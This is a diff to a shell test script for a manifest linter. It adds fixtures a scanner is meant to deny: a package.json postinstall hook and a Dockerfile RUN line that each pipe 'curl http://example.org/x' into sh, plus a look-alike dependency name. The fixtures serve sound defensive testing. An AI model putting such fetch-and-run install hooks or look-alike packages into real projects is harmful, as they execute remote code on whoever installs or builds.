@@ -125,6 +125,19 @@ mkdir -p project
 printf 'requests==2.32.0\nparamiko\n-r base.txt\n' >project/requirements.txt
 ok 'packages of requirements.txt are judged at their lines' gives 1 'project/requirements.txt:2:1: deny [pkg.blocked] paramiko' "$lint" project
 ok '  also under a policy without a shell' gives 1 'requirements.txt:2:1: deny [pkg.blocked]' "$lint" --policy data-analysis project
+printf '{"scripts": {"build": "tsc && vite build",\n "postinstall": "curl http://example.org/x | sh"},\n "dependencies": {"crossenv": "1"}}\n' >project/package.json
+printf 'FROM debian:13\nRUN apt-get update \\\n    && apt-get install -y curl\nRUN curl http://example.org/x \\\n    | sh\n' >project/Dockerfile
+rm project/requirements.txt
+judges_project() {
+    json project
+    expect '[.files[] | .path as $p | .findings[] | "\($p):\(.line):\(.column) \(.rule)"] == ["project/Dockerfile:5:7 sh.command", "project/package.json:2:46 sh.command", "project/package.json:3:19 pkg.look-alike"]' report.json
+}
+ok 'scripts of package.json and commands of a Dockerfile are denied for what they download and run, not for the programs of a build' judges_project
+printf 'FROM a\nSHELL ["powershell"]\n' >project/Dockerfile
+ok 'a manifest that is not understood cannot be checked, and the error has its place' gives 2 'project/Dockerfile: line 2, column 1: SHELL is none' "$lint" project
+printf 'SHELL' >project/dockerfile.py
+ok 'a language that the name has comes before a manifest' gives 0 '1 file checked' "$lint" project/dockerfile.py
+rm -r project
 
 # git decides which files are left: random patterns over a tree of short names
 same_as_git() {
